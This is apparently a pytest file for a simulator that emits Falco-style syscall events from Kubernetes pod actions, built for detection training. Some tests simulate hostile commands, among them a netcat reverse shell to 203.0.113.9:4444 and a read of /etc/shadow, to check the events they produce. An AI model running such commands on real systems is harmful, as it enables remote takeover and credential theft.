"""Actions and the syscall events they emit, in Falco's field names and value forms."""

from __future__ import annotations

import pytest

from falco_lab.simulate import SimulationError, Simulator, build_world
from falco_lab.simulate.model import PTS0
from falco_lab.workshop import manifests

START = 1_795_420_800_000_000_000


def _sim(nodes: int = 1) -> Simulator:
    return Simulator(build_world(nodes, seed=1), seed=1, start_ns=START)


def _events(sim: Simulator) -> list[dict]:
    return list(sim.log.records())


def test_container_start_is_an_async_event_then_a_vpid_1_execve() -> None:
    sim = _sim()
    sim.create_pod(manifests.shell_pod_manifest())
    events = _events(sim)
    assert [e["evt.type"] for e in events] == ["asyncevent", "execve"]
    assert events[0]["evt.asynctype"] == "container_added"
    start = events[1]
    assert (start["proc.vpid"], start["proc.name"], start["proc.pname"]) == (1, "sleep", "containerd-shim")
    assert start["proc.cmdline"] == f"sleep {manifests.ACTIVE_DEADLINE_SECONDS}"
    assert start["k8s.pod.name"] == manifests.SHELL_POD
    assert start["k8s.ns.name"] == manifests.NAMESPACE


def test_busybox_applets_run_busybox() -> None:
    sim = _sim()
    sim.create_pod(manifests.shell_pod_manifest())
    start = _events(sim)[1]
    assert (start["proc.exe"], start["proc.exepath"]) == ("sleep", "/bin/busybox")


def test_pod_security_context_gives_user_and_loginuid() -> None:
    sim = _sim()
    sim.create_pod(manifests.shell_pod_manifest())
    start = _events(sim)[1]
    assert (start["user.uid"], start["user.name"], start["user.loginuid"]) == (65534, "nobody", -1)


def test_host_path_volumes_become_mounts_keyed_by_host_path() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.host_etc_pod_manifest())
    assert pod.volumes[0].kind == "hostPath"
    assert (pod.volumes[0].host_path, pod.volumes[0].host_path_type) == ("/etc", "Directory")
    start = _events(sim)[1]
    assert start["container.mount.dest[/etc]"] == "/host/etc"
    assert start["container.mount.source[/host/etc]"] == "/etc"
    assert "/etc:/host/etc:ro:false:rprivate" in start["container.mounts"].split(",")
    assert start["container.privileged"] is False


def test_a_mount_key_that_names_no_mount_is_absent() -> None:
    sim = _sim()
    sim.create_pod(manifests.shell_pod_manifest())
    assert "container.mount.dest[/etc]" not in _events(sim)[1]


def test_exec_with_tty_runs_the_shell_under_runc_with_a_terminal() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.shell_pod_manifest())
    sim.exec_in_container(pod, ["sh"], tty=True)
    runc, shell = [e for e in _events(sim) if e["evt.type"] == "execve"][1:3]
    assert (runc["proc.name"], runc["container.id"], runc["proc.pname"]) == (
        "runc",
        "host",
        "containerd-shim",
    )
    assert (shell["proc.name"], shell["proc.pname"], shell["proc.tty"]) == ("sh", "runc", PTS0)
    assert shell["proc.ppid"] == runc["proc.pid"]
    assert shell["proc.aname[2]"] == "containerd-shim"
    assert shell["proc.apid[1]"] == runc["proc.pid"]


def test_exec_without_tty_has_no_terminal() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.shell_pod_manifest())
    sim.exec_in_container(pod, ["sh", "-c", "echo hi"], tty=False)
    shell = [e for e in _events(sim) if e.get("proc.name") == "sh"][0]
    assert shell["proc.tty"] == 0


def test_shell_script_children_and_output() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.shell_pod_manifest())
    _, result = sim.exec_in_container(pod, ["sh", "-c", "echo hello; id -u"])
    assert (result.stdout, result.exit_code) == ("hello\n65534\n", 0)
    child = [e for e in _events(sim) if e.get("proc.name") == "id" and e["evt.type"] == "execve"][0]
    assert (child["proc.pname"], child["proc.cmdline"]) == ("sh", "id -u")


def test_open_for_write_renders_flags_like_falco() -> None:
    sim = _sim()
    pod = sim.create_pod(
        {"metadata": {"name": "w"}, "spec": {"containers": [{"name": "c", "image": "nginx"}]}}
    )
    proc = sim.entrypoint(pod.containers[0])
    sim.open_file(proc, "/etc/nginx/conf.d/x.conf", write=True, create=True, trunc=True)
    event = _events(sim)[-1]
    assert event["evt.type"] == "openat"
    assert event["evt.arg.flags"] == "O_TRUNC|O_CREAT|O_WRONLY|O_CLOEXEC"
    assert (event["fd.name"], event["fd.directory"], event["fd.filename"]) == (
        "/etc/nginx/conf.d/x.conf",
        "/etc/nginx/conf.d",
        "x.conf",
    )
    assert (event["evt.is_open_write"], event["fd.typechar"], event["fd.num"] >= 3) == (True, "f", True)


def test_unprivileged_read_of_shadow_fails_with_eacces() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.shell_pod_manifest())
    _, result = sim.exec_in_container(pod, ["cat", "/etc/shadow"])
    opened = [e for e in _events(sim) if e["evt.type"] == "openat"][0]
    assert (opened["evt.res"], opened["evt.rawres"], opened["fd.num"]) == ("EACCES", -13, -1)
    assert result.exit_code == 1


def test_read_only_root_filesystem_refuses_writes() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.shell_pod_manifest())
    _, result = sim.exec_in_container(pod, ["sh", "-c", "echo x > /tmp/f"])
    opened = [e for e in _events(sim) if e["evt.type"] == "openat"][0]
    assert opened["evt.res"] == "EROFS"
    assert result.exit_code == 1


def test_connect_fields_describe_the_tcp_tuple() -> None:
    sim = _sim()
    pod = sim.create_pod(
        {"metadata": {"name": "n"}, "spec": {"containers": [{"name": "c", "image": "nginx"}]}}
    )
    proc = sim.entrypoint(pod.containers[0])
    sim.connect(proc, "198.51.100.7", 443)
    event = _events(sim)[-1]
    assert (event["evt.type"], event["fd.typechar"], event["fd.l4proto"]) == ("connect", "4", "tcp")
    assert (event["fd.sip"], event["fd.sport"], event["fd.cip"]) == ("198.51.100.7", 443, pod.ip)
    assert event["fd.name"] == f"{pod.ip}:{event['fd.cport']}->198.51.100.7:443"


def test_connect_to_the_api_server_names_it() -> None:
    sim = _sim()
    pod = sim.create_pod(
        {"metadata": {"name": "k"}, "spec": {"containers": [{"name": "c", "image": "bitnami/kubectl"}]}}
    )
    sim.exec_in_container(pod, ["kubectl", "get", "pods"])
    connect = [e for e in _events(sim) if e["evt.type"] == "connect"][0]
    assert connect["fd.sip.name"] == "kubernetes.default.svc.cluster.local"


def test_reverse_shell_duplicates_the_socket_onto_stdio() -> None:
    sim = _sim()
    pod = sim.create_pod(
        {"metadata": {"name": "r"}, "spec": {"containers": [{"name": "c", "image": "busybox"}]}}
    )
    sim.exec_in_container(pod, ["nc", "203.0.113.9", "4444", "-e", "sh"])
    dups = [e for e in _events(sim) if e["evt.type"] == "dup2"]
    assert [e["evt.rawres"] for e in dups] == [0, 1, 2]
    assert {e["fd.type"] for e in dups} == {"ipv4"}


def test_deleting_a_pod_ends_its_entrypoint() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.shell_pod_manifest())
    sim.delete_pod(pod)
    last = _events(sim)[-1]
    assert (last["evt.type"], last["proc.vpid"], pod.phase) == ("procexit", 1, "Deleted")
    with pytest.raises(SimulationError, match="not running"):
        sim.exec_in_container(pod, ["sh"])


def test_a_volume_mount_without_volume_is_refused() -> None:
    sim = _sim()
    manifest = {
        "metadata": {"name": "bad"},
        "spec": {
            "containers": [
                {"name": "c", "image": "busybox", "volumeMounts": [{"name": "x", "mountPath": "/x"}]}
            ]
        },
    }
    with pytest.raises(SimulationError, match="names no volume"):
        sim.create_pod(manifest)


def test_a_pod_name_can_not_be_used_twice() -> None:
    sim = _sim()
    sim.create_pod(manifests.shell_pod_manifest())
    with pytest.raises(SimulationError, match="already exists"):
        sim.create_pod(manifests.shell_pod_manifest())


def test_evt_num_counts_per_node_in_time_order() -> None:
    sim = _sim(nodes=2)
    for name in ("a", "b", "c"):
        sim.create_pod(
            {"metadata": {"name": name}, "spec": {"containers": [{"name": "c", "image": "busybox"}]}}
        )
    frame = sim.log.frame()
    assert frame["evt.rawtime"].is_monotonic_increasing
    for _, group in frame.groupby("evt.hostname"):
        assert group["evt.num"].tolist() == list(range(1, len(group) + 1))


def test_unobserved_changes_record_nothing() -> None:
    sim = _sim()
    with sim.unobserved():
        sim.create_pod(manifests.shell_pod_manifest())
    assert len(sim.log) == 0


def test_and_or_lists_short_circuit() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.shell_pod_manifest())
    _, result = sim.exec_in_container(pod, ["sh", "-c", "false && echo no || echo yes"])
    assert result.stdout == "yes\n"


def test_quoted_operators_are_words() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.shell_pod_manifest())
    _, result = sim.exec_in_container(pod, ["sh", "-c", "echo 'a;b' '|' \"c > d\""])
    assert result.stdout == "a;b | c > d\n"
    assert not [e for e in _events(sim) if e["evt.type"] == "openat"]


def test_unterminated_quote_is_a_shell_syntax_error() -> None:
    sim = _sim()
    pod = sim.create_pod(manifests.shell_pod_manifest())
    _, result = sim.exec_in_container(pod, ["sh", "-c", "echo 'oops"])
    assert result.exit_code == 2
    assert "syntax error" in result.stderr
